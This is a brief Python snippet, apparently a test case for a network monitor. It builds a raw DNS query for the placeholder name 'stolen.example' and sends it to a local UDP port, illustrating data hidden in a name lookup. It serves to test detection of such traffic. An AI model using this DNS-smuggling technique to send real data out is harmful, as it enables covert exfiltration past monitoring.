"""Hides data in a name that is looked up."""
# control

import socket, struct
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + b"\x06stolen\x07example\x00" + struct.pack(">2H", 1, 1)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", TARGET["udp_port"]))
except OSError:
    pass
if socket.gethostbyname("localhost"):
    pass
